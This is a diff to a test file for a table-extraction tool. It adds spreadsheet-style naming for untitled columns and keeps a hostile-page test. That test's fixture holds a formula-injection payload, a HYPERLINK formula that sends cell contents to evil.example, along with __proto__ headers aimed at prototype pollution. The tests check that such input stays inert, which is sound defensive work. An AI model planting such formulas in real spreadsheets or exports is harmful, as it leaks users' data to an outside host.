@@ -1,6 +1,7 @@
 // extract_table on local pages: a paginated table, a card grid with "Visa fler", and a hostile page (a formula
 // cell, a header named __proto__, 100,000 rows against a cap of 50).
 import { expect, test } from 'vitest';
+import { columnNames } from './extract-table.ts';
 import { useEngine } from './test/harness.ts';
 
 const t = useEngine();
@@ -87,7 +88,7 @@ test('a hostile page: a formula cell stays text, a header named __proto__ is a c
   );
   expect(outcome.status, logText).toBe('completed');
   const table = ends[1]!.table!;
-  expect(table.columns).toEqual(['__proto__', 'constructor', 'Kolumn 3', '__proto__ (2)']);
+  expect(table.columns).toEqual(['__proto__', 'constructor', 'C', '__proto__ (2)']);
   expect(table.rows).toHaveLength(50);
   expect(table.rows[0]).toEqual(['=HYPERLINK("http://evil.example/?x="&A1,"Klicka")', '@SUM(1)', 'x', 'y']);
   expect(table.rows[49]).toEqual(['48', '', '', '']);
@@ -95,4 +96,12 @@ test('a hostile page: a formula cell stays text, a header named __proto__ is a c
   expect(Object.getPrototypeOf({})).toBe(Object.prototype);
   expect(await page.evaluate('window.clicked ?? false')).toBe(false); // the cap was reached: nothing more was asked for
   expect(logText).toContain('the cap of 50 rows was reached');
+});
+
+test('a column without a heading is named by its position as a spreadsheet names it, the same in every language', () => {
+  expect(columnNames(['Nummer', '', '  ', 'Belopp'], 4)).toEqual(['Nummer', 'B', 'C', 'Belopp']);
+  expect(columnNames(null, 28).slice(24)).toEqual(['Y', 'Z', 'AA', 'AB']);
+  // A heading that is itself a letter is a name like any other: the blank column beside it is numbered, not merged.
+  expect(columnNames(['B', ''], 2)).toEqual(['B', 'B (2)']);
+  expect(columnNames(['', 'A'], 2)).toEqual(['A', 'A (2)']);
 });
